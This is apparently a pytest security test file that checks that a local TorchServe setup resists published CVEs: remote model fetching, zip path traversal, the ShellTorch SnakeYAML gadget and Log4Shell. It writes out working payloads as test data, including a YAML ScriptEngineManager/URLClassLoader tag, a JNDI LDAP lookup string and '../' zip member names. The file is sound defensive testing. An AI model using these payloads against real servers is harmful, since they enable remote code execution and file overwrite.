"""What TorchServe's advisories are about, tried at the port of this machine that can load code.

Who may log in to the machine reaches that port; from outside nobody does (SECURITY.md).
"""

import http.server
import json
import shutil
import socket
import threading
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import psutil
import pytest
import requests

from handler.metadata import Metadata
from scripts.errors import UserError
from scripts.pipeline.archive import verify
from scripts.serving import state
from scripts.serving.management import Management
from scripts.serving.registering import require_verified
from tests.integration.changed import write_changed
from tests.integration.server import MODEL, Server

VERSION = "6.6"


@dataclass
class Elsewhere:
    """An archive outside the model store, on a disk and at a web server that remembers what it was asked for."""

    archive: Path
    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere(int8_archive: Path, tmp_path: Path) -> Iterator[Elsewhere]:
    found = Elsewhere(tmp_path / "evil.mar", "")
    write_changed(int8_archive, found.archive, VERSION)
    shutil.copy(found.archive, tmp_path / "evil.war")

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *words: object) -> None:
            super().__init__(*words, directory=str(tmp_path))  # type: ignore[arg-type]

        def do_GET(self) -> None:
            found.asked.append(self.path)
            super().do_GET()

        def log_message(self, *_: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as web:
        threading.Thread(target=web.serve_forever, args=(0.02,)).start()
        found.url = f"http://127.0.0.1:{web.server_port}"
        yield found
        web.shutdown()


@pytest.fixture
def in_the_store(server: Server, model_store: Path, int8_archive: Path) -> Iterator[Path]:
    """Return where an archive may be put; it and its version are gone afterwards."""
    path = model_store / "planted.mar"
    yield path
    requests.delete(f"{server.management_url}/models/{MODEL}/{VERSION}", timeout=60)
    path.unlink(missing_ok=True)


def register(server: Server, url: str, what: str = "models") -> requests.Response:
    return requests.post(f"{server.management_url}/{what}", params={"url": url}, timeout=60)


def registered(server: Server) -> set[str]:
    found = requests.get(f"{server.management_url}/models/{MODEL}/all", timeout=10).json()
    return {each["modelVersion"] for each in found}


@pytest.mark.parametrize(
    "scheme", ["http", "HTTP", "https", "ftp", "jar:http", "file", "FILE", "file:", "", "..", "s3"]
)
def test_an_archive_is_registered_from_no_address_and_no_path(
    server: Server, model_store: Path, elsewhere: Elsewhere, scheme: str
) -> None:
    """CVE-2023-43654 and CVE-2024-35198."""
    host = elsewhere.url.removeprefix("http://")
    local = {"file": "file://", "file:": "file:", "": "", "..": "../../../../../../../.."}
    url = f"{local[scheme]}{elsewhere.archive}" if scheme in local else f"{scheme}://{host}/evil.mar"
    before = sorted(model_store.iterdir())
    refused = register(server, url)
    assert 400 <= refused.status_code < 500, refused.text
    assert elsewhere.asked == []
    assert sorted(model_store.iterdir()) == before
    assert VERSION not in registered(server)


def test_a_workflow_is_fetched_from_no_address(server: Server, elsewhere: Elsewhere) -> None:
    assert register(server, f"{elsewhere.url}/evil.war", "workflows").status_code == 404
    assert elsewhere.asked == []


@pytest.mark.parametrize(
    "climb", ["../../../../../../../..", "..\\..\\..\\..", ""], ids=["slash", "backslash", "absolute"]
)
def test_an_archive_writes_nothing_outside_of_where_it_is_unpacked(
    server: Server, int8_archive: Path, in_the_store: Path, tmp_path: Path, climb: str
) -> None:
    """CVE-2023-48299: TorchServe itself, since what our commands register has no such member (test_members.py)."""
    target = tmp_path / "escaped"
    write_changed(int8_archive, in_the_store, VERSION)
    with zipfile.ZipFile(in_the_store, "a") as archive:
        archive.writestr(f"{climb}{target}", b"escaped")
    register(server, in_the_store.name)
    assert not target.exists()


@pytest.mark.parametrize("text", ["{tag}", "minWorkers: {tag}"], ids=["whole", "value"])
def test_the_yaml_of_an_archive_makes_no_java_object(
    server: Server, int8_archive: Path, in_the_store: Path, elsewhere: Elsewhere, text: str
) -> None:
    """CVE-2022-1471, ShellTorch's second half: the object would fetch classes from the address it is given."""
    tag = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{elsewhere.url}/"]]]]'
    write_with_configuration(int8_archive, in_the_store, text.format(tag=tag))
    register(server, in_the_store.name)
    assert elsewhere.asked == []


def test_a_lookup_in_what_is_logged_asks_nobody(server: Server, int8_archive: Path, in_the_store: Path) -> None:
    """CVE-2021-44228."""
    with socket.create_server(("127.0.0.1", 0)) as directory:
        directory.setblocking(False)
        lookup = f"${{jndi:ldap://127.0.0.1:{directory.getsockname()[1]}/x}}"
        write_changed(int8_archive, in_the_store, VERSION, name=lookup)
        register(server, in_the_store.name)
        requests.delete(f"{server.management_url}/models/{quote(lookup, safe='')}", timeout=60)
        with pytest.raises(BlockingIOError):
            directory.accept()
    assert lookup in (server.run_dir / "torchserve/logs/ts_log.log").read_text(errors="replace")


def test_torchserve_listens_on_loopback_alone(server: Server) -> None:
    """CVE-2024-35199: gRPC's two ports, and all others of TorchServe and of its workers."""
    running = state.load(server.run_dir)
    assert running is not None
    sockets = [each for process in running.servers["torchserve"].members() for each in process.net_connections("inet")]
    listening = {each.laddr.port: each.laddr.ip for each in sockets if each.status == psutil.CONN_LISTEN}
    assert {server.ports["grpc_inference"], server.ports["grpc_management"]} <= listening.keys()
    assert {ip.removeprefix("::ffff:") for ip in listening.values()} == {"127.0.0.1"}


def test_an_archive_that_came_in_place_of_the_verified_one_is_noticed(server: Server, model_store: Path) -> None:
    verified = verify(model_store / f"{MODEL}-2.0.mar")
    management = Management(server.ports["management"], MODEL, server.run_dir / "torchserve/logs/model_log.log")
    require_verified(management, verified)
    another: Mapping[str, str] = {"digest": "0" * 64}
    with pytest.raises(UserError, match=r"version 2\.0: its archive was replaced while TorchServe read it"):
        require_verified(management, Metadata.model_copy(verified, update=another))


def write_with_configuration(source: Path, target: Path, text: str) -> None:
    """Zip an archive again with a configuration for TorchServe, its manifest naming it."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name.startswith("MAR-INF"):
                manifest = json.loads(content)
                manifest["model"] |= {"modelVersion": VERSION, "configFile": "model-config.yaml"}
                content = json.dumps(manifest).encode()
            new.writestr(name, content)
        new.writestr("model-config.yaml", text)
